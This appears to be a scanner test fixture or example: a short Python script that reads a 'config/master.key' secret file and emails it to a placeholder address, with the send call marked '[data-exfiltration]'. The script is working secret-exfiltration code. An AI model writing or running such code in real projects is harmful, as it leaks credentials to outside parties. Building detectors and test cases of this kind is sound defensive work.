#!/usr/bin/env python3
import smtplib
from email.message import EmailMessage
from pathlib import Path

message = EmailMessage()
message["To"] = "archive@example.net"
message.set_content(Path("config/master.key").read_text())
with smtplib.SMTP("smtp.example.com") as server:
    server.send_message(message)
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
